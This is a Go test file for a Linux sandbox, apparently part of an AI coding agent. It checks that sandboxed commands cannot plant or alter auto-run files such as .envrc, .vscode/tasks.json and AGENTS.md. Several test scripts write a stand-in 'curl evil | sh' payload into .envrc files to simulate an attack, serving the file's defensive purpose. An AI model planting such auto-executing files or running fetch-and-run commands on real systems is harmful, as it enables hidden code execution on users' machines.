//go:build linux

package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aci-dev/aci/internal/fswatch"
)

// A long-running command that makes a protected file in a subfolder has
// it moved away while it still runs (the periodic look), and named at
// its end; a file the person makes while nothing runs is kept, and bound
// read-only from the next command on.
func TestProtectedMadeWhileRunning(t *testing.T) {
	tr := newTree(t)
	os.MkdirAll(filepath.Join(tr.ws, "sub"), 0o755)
	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	cmd, release := startCommand(t, s, tr.ws, "sleep 0.2; echo 'curl evil | sh' > sub/.envrc; sleep 5")
	envrc := filepath.Join(tr.ws, "sub", ".envrc")
	exists := func() bool { _, err := os.Lstat(envrc); return err == nil }
	waitFor := func(want bool, within time.Duration) bool {
		for end := time.Now().Add(within); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
			if exists() == want {
				return true
			}
		}
		return false
	}
	if !waitFor(true, 3*time.Second) {
		t.Fatal("the command did not make sub/.envrc")
	}
	if !waitFor(false, watchEvery+1500*time.Millisecond) {
		t.Error("sub/.envrc still there while the command runs")
	}
	cmd.Wait()
	if moved := strings.Join(release(), "\n"); !strings.Contains(moved, "sub/.envrc (moved to ") {
		t.Errorf("release says %q", moved)
	}
	// The person's own file, made while nothing runs, stays; and no
	// command can change it.
	mine := filepath.Join(tr.ws, "sub", "AGENTS.md")
	os.WriteFile(mine, []byte("mine\n"), 0o644)
	if out, code := runCommand(t, s, tr.ws, "echo evil >> sub/AGENTS.md"); code == 0 {
		t.Errorf("appending to sub/AGENTS.md succeeded: %q", out)
	}
	if b, _ := os.ReadFile(mine); string(b) != "mine\n" {
		t.Errorf("sub/AGENTS.md = %q", b)
	}
}

// runCommand runs script through Command and its release.
func runCommand(t *testing.T, s *Sandbox, dir, script string) (string, int) {
	t.Helper()
	cmd, release := commandFor(t, s, dir, script)
	defer release()
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); ok {
		return string(out), ee.ExitCode()
	}
	return string(out), 0
}

// BenchmarkProtectLook measures what the protected-name index costs each
// command, twice per command (before and after): the first walk of a
// workspace of 100×50 folders, then a look with nothing changed (a stat
// of each known folder), and one where one folder changed.
func BenchmarkProtectLook(b *testing.B) {
	ws := b.TempDir()
	for i := range 100 {
		for j := range 50 {
			os.MkdirAll(filepath.Join(ws, "d"+strconv.Itoa(i), "e"+strconv.Itoa(j)), 0o755)
		}
		os.WriteFile(filepath.Join(ws, "d"+strconv.Itoa(i), "main.go"), nil, 0o644)
	}
	b.Run("first walk", func(b *testing.B) {
		for b.Loop() {
			x := &protectIndex{root: ws}
			x.look()
			x.closeWatch()
		}
	})
	x := &protectIndex{root: ws}
	x.look()
	b.Cleanup(x.closeWatch)
	b.Run("unchanged", func(b *testing.B) {
		for b.Loop() {
			x.look()
		}
	})
	b.Run("one folder changed", func(b *testing.B) {
		f := filepath.Join(ws, "d7", "new.txt")
		for b.Loop() {
			os.WriteFile(f, nil, 0o644)
			x.look()
			os.Remove(f)
			x.look()
		}
	})
}

// notifyModes are the ways the index keeps current: by the kernel's word,
// by a stat of every folder where there is no inotify, and by stats again
// once the watch limit is reached (here: 3 folders).
var notifyModes = []struct {
	name  string
	setup func(x *protectIndex)
}{
	{"notify", func(*protectIndex) {}},
	{"no inotify", func(x *protectIndex) { x.noWatch = errNoWatch }},
	{"watch limit", func(x *protectIndex) { x.watchMax = 3 }},
}

// newNotifySandbox is a sandbox over a workspace with a few folders and a
// file to link to, its index made (in mode) before anything happens.
func newNotifySandbox(t *testing.T, setup func(*protectIndex)) (*Sandbox, string) {
	t.Helper()
	tr := newTree(t)
	for _, d := range []string{"a/b", "p/q", "c/d/e"} {
		os.MkdirAll(filepath.Join(tr.ws, d), 0o755)
	}
	os.WriteFile(filepath.Join(tr.ws, "notes.txt"), []byte("notes\n"), 0o644)
	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	x := s.indexed()
	setup(x)
	s.privateTmp()
	x.look()
	if mode := x.fw != nil; mode != (x.noWatch == nil) {
		t.Fatalf("watcher %v, noWatch %v", x.fw != nil, x.noWatch)
	}
	return s, tr.ws
}

// What a command makes behind the watcher's back, the fastest way, is
// still found and moved out when it ends: a folder made and filled at
// once, a protected name made in a folder whose parent was renamed, a
// hard link named like a protected file, a folder moved in from outside
// the index's sight.
func TestIndexCatchesQuickChanges(t *testing.T) {
	// Each script makes the path named after its "=>".
	scripts := map[string]string{
		"folder made and filled":     "mkdir -p n/o/p && echo 'curl evil | sh' > n/o/p/.envrc => n/o/p/.envrc",
		"parent renamed":             "mv p r && echo evil > r/q/.envrc => r/q/.envrc",
		"renamed then filled deeper": "mv a z && mkdir -p z/b/new && echo evil > z/b/new/.envrc => z/b/new/.envrc",
		"hard link":                  "ln notes.txt c/d/e/.envrc => c/d/e/.envrc",
		"folder moved in":            "mkdir -p node_modules/x/.vscode && echo '{}' > node_modules/x/.vscode/tasks.json && mv node_modules/x c/x => c/x/.vscode",
	}
	for _, m := range notifyModes {
		for name, script := range scripts {
			c := struct{ script, made string }{}
			c.script, c.made, _ = strings.Cut(script, " => ")
			t.Run(m.name+"/"+name, func(t *testing.T) {
				s, ws := newNotifySandbox(t, m.setup)
				argv, release, err := s.Command([]string{"bash", "-c", c.script}, ws)
				if err != nil {
					t.Fatal(err)
				}
				if out, err := execIn(ws, argv); err != nil {
					t.Fatalf("%v %s", err, out)
				}
				notes := strings.Join(release(), "\n")
				if !strings.Contains(notes, c.made+" (moved to ") {
					t.Errorf("release says %q, want %s moved out", notes, c.made)
				}
				if _, err := os.Lstat(filepath.Join(ws, c.made)); err == nil {
					t.Errorf("%s still in the workspace", c.made)
				}
			})
		}
	}
}

// What the person makes between commands, the fastest way, is known to
// the next command, which can change none of it: a folder made and
// filled at once, a protected file whose parent the person renamed.
func TestIndexKnowsPersonsQuickChanges(t *testing.T) {
	for _, m := range notifyModes {
		t.Run(m.name, func(t *testing.T) {
			s, ws := newNotifySandbox(t, m.setup)
			os.MkdirAll(filepath.Join(ws, "x", "y", ".vscode"), 0o755)
			os.WriteFile(filepath.Join(ws, "x", "y", ".vscode", "tasks.json"), []byte("{}\n"), 0o644)
			os.WriteFile(filepath.Join(ws, "p", "q", "AGENTS.md"), []byte("mine\n"), 0o644)
			runCommand(t, s, ws, "true") // the index knows p/q/AGENTS.md
			if err := os.Rename(filepath.Join(ws, "p"), filepath.Join(ws, "r")); err != nil {
				t.Fatal(err)
			}
			out, _ := runCommand(t, s, ws, "echo evil >> x/y/.vscode/tasks.json; echo evil >> r/q/AGENTS.md; echo done")
			if !strings.Contains(out, "done") {
				t.Fatalf("the command did not run: %q", out)
			}
			for name, want := range map[string]string{"x/y/.vscode/tasks.json": "{}\n", "r/q/AGENTS.md": "mine\n"} {
				if b, _ := os.ReadFile(filepath.Join(ws, name)); string(b) != want {
					t.Errorf("%s = %q, want %q", name, b, want)
				}
			}
		})
	}
}

// Events the kernel's queue could not hold are lost: the look after says
// so, stats every folder instead, and finds what was made amid the flood;
// the watches are made again, and the next command is heard of again.
func TestIndexAfterWatchOverflow(t *testing.T) {
	s, ws := newNotifySandbox(t, notifyModes[0].setup)
	x := s.indexed()
	if x.fw == nil {
		t.Skipf("no watcher here: %v", x.noWatch)
	}
	limit := fswatch.QueueLimit()
	if limit > 200000 {
		t.Skipf("the kernel queues %d events: too many to overflow in a test", limit)
	}
	flood := filepath.Join(ws, "c", "flood")
	os.Mkdir(flood, 0o755)
	runCommand(t, s, ws, "true") // the flood folder is watched
	// The flood comes while a command runs, the periodic look held off
	// so that nothing drains the queue before it overflows.
	cmd, release := startCommand(t, s, ws, "sleep 1")
	s.prot.looking.Lock()
	for i := range limit + 2000 {
		if err := os.WriteFile(filepath.Join(flood, strconv.Itoa(i)), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	os.MkdirAll(filepath.Join(ws, "late", "x"), 0o755)
	os.WriteFile(filepath.Join(ws, "late", "x", ".envrc"), []byte("evil\n"), 0o644)
	s.prot.looking.Unlock()
	cmd.Wait()
	notes := strings.Join(release(), "\n")
	if x.relooks == 0 {
		t.Fatal("no overflow was heard of")
	}
	if !strings.Contains(notes, "late/x/.envrc (moved to ") {
		t.Errorf("release says %q", notes)
	}
	if x.fw == nil {
		t.Fatalf("the watches were not made again: %v", x.noWatch)
	}
	// Heard of again: no second overflow, and what the next command
	// makes is found.
	n := x.relooks
	cmd, release = startCommand(t, s, ws, "mkdir -p again && echo evil > again/.envrc")
	cmd.Wait()
	if notes := strings.Join(release(), "\n"); !strings.Contains(notes, "again/.envrc (moved to ") {
		t.Errorf("after the overflow, release says %q", notes)
	}
	if x.relooks != n {
		t.Errorf("looked at every folder again (%d, was %d)", x.relooks, n)
	}
}

// commandFor is script contained by s in dir, not started, and its
// release.
func commandFor(t *testing.T, s *Sandbox, dir, script string) (*exec.Cmd, func() []string) {
	t.Helper()
	argv, release, err := s.Command([]string{"bash", "-c", script}, dir)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = dir
	return cmd, release
}

// startCommand starts script contained by s in dir, in the background.
func startCommand(t *testing.T, s *Sandbox, dir, script string) (*exec.Cmd, func() []string) {
	t.Helper()
	cmd, release := commandFor(t, s, dir, script)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	return cmd, release
}

// execIn runs argv (a contained command) in dir.
func execIn(dir string, argv []string) ([]byte, error) {
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = dir
	return cmd.CombinedOutput()
}
